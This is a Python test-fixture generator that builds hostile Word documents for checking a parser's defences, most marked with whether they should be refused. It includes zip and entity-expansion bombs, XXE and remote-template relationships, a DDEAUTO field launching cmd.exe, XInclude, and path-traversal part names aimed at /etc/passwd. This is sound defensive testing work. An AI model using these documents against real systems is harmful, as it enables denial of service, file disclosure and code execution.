"""Word documents that mean harm."""

# ruff: noqa: E501 - much of this is data, best read a line at a time

import zipfile
from collections.abc import Iterator, Mapping
from random import Random
from xml.sax.saxutils import escape

from .mutations import VALUES, Made, Table, lying, zipped

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_NAMES = f'xmlns:w="{_W}" xmlns:r="{_OFFICE}" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" ' \
    'xmlns:v="urn:schemas-microsoft-com:vml"'  # fmt: skip
_MAIN = "word/document.xml"
_NOTE = ("Return home interview", "Name: Tia Marlowe", "Date of interview: 03/06/2024", "She was with Zed.")


def _p(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


_SOUND = "".join(map(_p, _NOTE))


def _xml(body: str, top: str = "", root: str = "document") -> bytes:
    return f'<?xml version="1.0"?>{top}<w:{root} {_NAMES}><w:body>{body}</w:body></w:{root}>'.encode()


def _links(*links: str) -> bytes:
    xmlns = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
    return f"<Relationships {xmlns}>{''.join(links)}</Relationships>".encode()


def _link(kind: str, target: str, outside: bool = False) -> str:
    mode = ' TargetMode="External"' if outside else ""
    return f'<Relationship Id="r{len(target)}{kind}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def document(body: str, extra: Mapping[str, bytes] | None = None, *, top: str = "", links: tuple[str, ...] = (),
             pad: int = 0) -> bytes:  # fmt: skip
    """A document with this body. ``pad`` bytes that do not shrink keep the ratio of a bomb harmless."""
    padding = {"word/media/a.png": Random(pad).randbytes(pad)} if pad else {}
    held = {"_rels/.rels": _links(_link("officeDocument", _MAIN)), "word/_rels/document.xml.rels": _links(*links)}
    return zipped([*{**held, _MAIN: _xml(body, top), **(extra or {}), **padding}.items()])


def written_document(random: Random, table: Table) -> Made:
    """A table's cells as paragraphs, tables, boxes, changes and fields."""
    body = list(map(_p, _NOTE))
    for row in table:
        values = [escape("".join(c for c in value if c >= " " and c not in "\ufffe\uffff")) for value in row] or [""]
        made = random.choice((_grid, _prose, _grid, _changed, _boxed))(values)
        body.insert(random.randrange(len(body) + 1), made)
    return Made("wrong words", document("".join(body)))


def _grid(values: list[str]) -> str:
    cells = "".join(f"<w:tc>{_p(value)}</w:tc>" for value in values)
    return f"<w:tbl><w:tr>{cells}</w:tr></w:tbl>"


def _prose(values: list[str]) -> str:
    return _p(f"Name: {values[0]}") + _p("Seen with " + " at ".join(values) + ".")


def _changed(values: list[str]) -> str:
    return f"<w:p><w:ins><w:r><w:t>{values[0]}</w:t></w:r></w:ins><w:del><w:r><w:delText>gone</w:delText></w:r></w:del></w:p>"


def _boxed(values: list[str]) -> str:
    return f"<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>{_p(values[-1])}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"


def hostile_documents(address: str) -> Iterator[Made]:
    """Each by hand."""
    yield from _bombs()
    yield from _nested()
    yield from _outside(address)
    yield from _content()
    yield from _archives()


def _bombs() -> Iterator[Made]:
    yield Made("bomb by ratio", document(_SOUND + " " * 60_000_000), refused=True)
    media = {f"word/media/{n}": Random(n).randbytes(2**17) + bytes(2**23) for n in range(14)}
    yield Made("bomb by size", document(_SOUND, media), refused=True)
    yield Made("bomb by parts", document(_SOUND, {f"word/{n}.xml": b"" for n in range(5_000)}), refused=True)
    yield Made("a million paragraphs", document(_SOUND + "<w:p/>" * 1_000_000, pad=2**18))
    yield Made("200,000 short paragraphs", document(_SOUND + _p("with Ben") * 200_000, pad=2**20))
    yield Made("a table of 100,000 rows", document(_SOUND + "<w:tbl>" + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 2 + "</w:tr>") * 100_000
               + "</w:tbl>", pad=2**17))  # fmt: skip
    yield Made("a row of 50,000 cells", document(_SOUND + _grid(["x"] * 50_000), pad=2**17))
    yield Made("30 MB of empty marks", document(_SOUND + "<w:x/>" * 4_500_000, pad=2**19), refused=True)
    yield Made("5 MB on a line", document(_SOUND + _p("x" * 5_000_000), pad=2**16))
    yield Made("5 MB of blanks", document(_SOUND + _p("x " * 2_500_000), pad=2**16))
    yield Made("one header 500 times", document(_SOUND, {"word/h.xml": _xml(_p("h " * 5_000), root="hdr")},
               links=tuple(_link("header", "h.xml") for _ in range(500)), pad=2**14))  # fmt: skip
    yield Made("500 headers", document(_SOUND, {f"word/h{n}.xml": _xml(_p(f"h{n}")) for n in range(500)},
               links=tuple(_link("header", f"h{n}.xml") for n in range(500))))  # fmt: skip
    yield Made(
        "a million attributes",
        document("<w:p " + " ".join(f'a{n}="1"' for n in range(900_000)) + "/>" + _SOUND, pad=2**16),
    )
    entities = "<!DOCTYPE d [<!ENTITY a 'aaaaaaaaaa'>" + "".join(
        f"<!ENTITY {chr(98 + n)} '{f'&{chr(97 + n)};' * 10}'>" for n in range(9)
    )
    yield Made("entities", document(_p("&j;"), top=entities + "]>"), refused=True)
    yield Made(
        "one entity of 1 MB, 500 times",
        document(_p("&a;" * 500), top=f"<!DOCTYPE d [<!ENTITY a '{'x' * 2**20}'>]>", pad=2**15),
        refused=True,
    )


def _nested() -> Iterator[Made]:
    for depth in (20, 100, 500, 10_000):
        for name, opened, closed in (
            ("tables", "<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"),
            ("controls", "<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"),
            ("boxes", "<w:p><w:r><w:txbxContent>", "</w:txbxContent></w:r></w:p>"),
            ("insertions", "<w:ins>", "</w:ins>"),
            ("choices", "<mc:AlternateContent><mc:Choice>", "</mc:Choice></mc:AlternateContent>"),
        ):
            yield Made(
                f"{name} {depth} deep", document(_SOUND + opened * depth + _p("words") + closed * depth, pad=2**14)
            )
    yield Made("tables side by side, 12 deep", document(_SOUND + _tree(12), pad=2**14))
    yield Made(
        "boxes side by side, 12 deep",
        document(_SOUND + _tree(12, "<w:p><w:r><w:txbxContent>", "</w:txbxContent></w:r></w:p>"), pad=2**14),
    )
    yield Made("tags never closed", document("<w:p>" * 200_000, pad=2**15), refused=True)
    yield Made("5 MB attribute", document(f'<w:p w:x="{"a" * 5_000_000}"/>' + _SOUND, pad=2**16))
    yield Made("a tag of 1 MB", document(f"<w:{'a' * 2**20}/>" + _SOUND, pad=2**14))


def _tree(depth: int, opened: str = "<w:tbl><w:tr><w:tc>", closed: str = "</w:tc></w:tr></w:tbl>") -> str:
    inner = _tree(depth - 1, opened, closed) * 2 if depth else _p("leaf")
    return f"{opened}{inner}{closed}"


def _outside(address: str) -> Iterator[Made]:
    for kind in (
        "header",
        "footer",
        "footnotes",
        "comments",
        "attachedTemplate",
        "image",
        "oleObject",
        "subDocument",
        "frame",
    ):
        yield Made(
            f"{kind} from outside", document(_SOUND, links=(_link(kind, f"{address}/{kind}", True),)), refused=False
        )
        yield Made(
            f"{kind} from outside, said to be inside", document(_SOUND, links=(_link(kind, f"{address}/{kind}"),))
        )
    chunk = '<w:altChunk r:id="r1"/>'
    yield Made(
        "a chunk from outside",
        document(_SOUND + chunk, links=(_link("aFChunk", f"{address}/chunk.html", True),)),
        refused=False,
    )
    part = {"word/chunk.html": f"<html><img src='{address}/i'></html>".encode()}
    yield Made(
        "a chunk of HTML", document(_SOUND + chunk, part, links=(_link("aFChunk", "chunk.html"),)), refused=False
    )
    yield Made(
        "an outside entity", document(_p("&a;"), top=f"<!DOCTYPE d [<!ENTITY a SYSTEM '{address}/e'>]>"), refused=True
    )
    yield Made("an outside definition", document(_SOUND, top=f"<!DOCTYPE d SYSTEM '{address}/d'>"), refused=True)
    order = f'<w:p><w:r><w:instrText>INCLUDETEXT "{address}/x"</w:instrText></w:r></w:p>'
    order += '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
    yield Made("fields that fetch and start", document(_SOUND + order), refused=False)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{address}/x" parse="text"/>'
    yield Made("an inclusion", document(_SOUND + include), refused=False)
    for target in (
        "../../../etc/passwd",
        "/etc/passwd",
        "document.xml",
        "../word/document.xml",
        "",
        ".",
        "\\\\host\\share",
        "file:///etc/passwd",
    ):
        yield Made(f"a header at {target}", document(_SOUND, links=(_link("header", target),)))


def _content() -> Iterator[Made]:
    for value in VALUES:
        text = escape("".join(c for c in value if c >= " " and c not in "\ufffe\uffff"))
        yield Made(
            f"a note that says {value[:12]!r}",
            document(_SOUND.replace("03/06/2024", text).replace("Tia Marlowe", text)),
        )
    yield Made("moved and changed words", document(
        _SOUND + f"<w:p><w:moveFrom><w:r><w:t>old</w:t></w:r></w:moveFrom><w:moveTo>{'<w:r><w:t>new</w:t></w:r>' * 3_000}</w:moveTo></w:p>"))  # fmt: skip
    comments = _xml(
        "".join(f'<w:comment w:id="{n}" w:author="x">{_p("said")}</w:comment>' for n in range(3_000)), root="comments"
    )
    yield Made(
        "3,000 comments",
        document(_SOUND, {"word/comments.xml": comments}, links=(_link("comments", "comments.xml"),), pad=2**13),
    )
    number = '<w:p><w:pPr><w:numPr><w:ilvl w:val="-99999"/><w:numId w:val="1e9"/></w:numPr></w:pPr></w:p>'
    yield Made("numbering without a list", document(_SOUND + number), refused=False)
    yield Made("a span of 2,147,483,647", document(
        _SOUND + '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>' + _p("x") + "</w:tc></w:tr></w:tbl>"), refused=False)  # fmt: skip
    yield Made("a chart of boxes", document(_SOUND + _boxed(["words"]) * 2_000))
    yield Made(
        "ticks",
        document(_SOUND + '<w:p><w:r><w:checkBox><w:checked w:val=""/><w:checked/></w:checkBox></w:r></w:p>' * 500),
    )
    yield Made("no words", document("<w:p/>"), refused=True)
    yield Made("no body", zipped([(_MAIN, f"<w:document {_NAMES}/>".encode())]), refused=True)
    for root in (
        b"",
        b"<a/>",
        b"\x00",
        b"<w:document>",
        b"words",
        b"\xff\xfe<\x00a\x00/\x00>\x00",
        b"<?xml version='9.9'?><a/>",
    ):
        yield Made(f"a main part of {root!r}", zipped([(_MAIN, root)]), refused=True)
    for sign in ("&#0;", "&#55296;", "&#x110000;", "&nbsp;", "&", "<", "]]>", "\x01", "\ufffe"):
        yield Made(f"the sign {sign!r}", document(_SOUND + _p(sign)))
    for encoding in ("utf-16", "utf-16-le", "utf-32", "utf-7", "iso-8859-1", "x-none", "cp037"):
        xml = (
            _xml(_SOUND)
            .replace(b'<?xml version="1.0"?>', f'<?xml version="1.0" encoding="{encoding}"?>'.encode())
            .decode()
        )
        raw = xml.encode(encoding) if encoding != "x-none" else xml.encode()
        yield Made(f"markup in {encoding}", zipped([(_MAIN, raw)]))


def _archives() -> Iterator[Made]:
    sound = document(_SOUND)
    macro = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(500)}
    yield Made("macros", document(_SOUND, macro), name="macros.docm", refused=False)
    yield Made("macros under another ending", document(_SOUND, macro), refused=False)
    yield Made("a document in a document", document(_SOUND, {"word/embeddings/a.docx": sound}), refused=False)
    yield Made("a zip that holds a document", zipped([("a.docx", sound)]), refused=True)
    for size in (0, 10, 2**31 - 1, 2**32 - 1):
        yield Made(f"a directory that says {size} bytes", lying(sound, _MAIN, size), refused=True)
    yield Made(
        "a directory that says less, with its sum", lying(document(_SOUND * 9), _MAIN, 900, mend=True), refused=True
    )
    yield Made("one part twice", zipped([(_MAIN, _xml(_SOUND)), (_MAIN, _xml(_p("other words")))]))
    yield Made("a workbook and a document", zipped([(_MAIN, _xml(_SOUND)), ("xl/workbook.xml", b"<workbook/>")]))
    for method in (zipfile.ZIP_STORED, zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA):
        yield Made(f"packed by method {method}", zipped([(_MAIN, _xml(_SOUND))], method))
    for name in (
        "../../../tmp/kith-hostile",
        "/etc/passwd",
        "C:\\x",
        "word/" + "a" * 60_000,
        "word/\x01\x1b",
        "word//",
    ):
        yield Made("a part named as a path", document(_SOUND, {name: b"x"}))
    loop = _links(_link("officeDocument", "_rels/.rels"))
    yield Made("a main part that is its own list", zipped([("_rels/.rels", loop), (_MAIN, _xml(_SOUND))]))
    yield Made(
        "a main part that is missing",
        zipped([("_rels/.rels", _links(_link("officeDocument", "word/none.xml"))), ("word/a", b"")]),
        refused=True,
    )
    yield Made("only a directory", b"PK\x05\x06" + bytes(18), refused=True)
    yield Made(
        "an old file, locked",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le") + bytes(900),
        refused=True,
    )
    yield Made("an old file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(900), refused=True)
    yield Made("words before the archive", b"words" * 100 + sound)
    yield Made("words after the archive", sound + b"words" * 20_000)
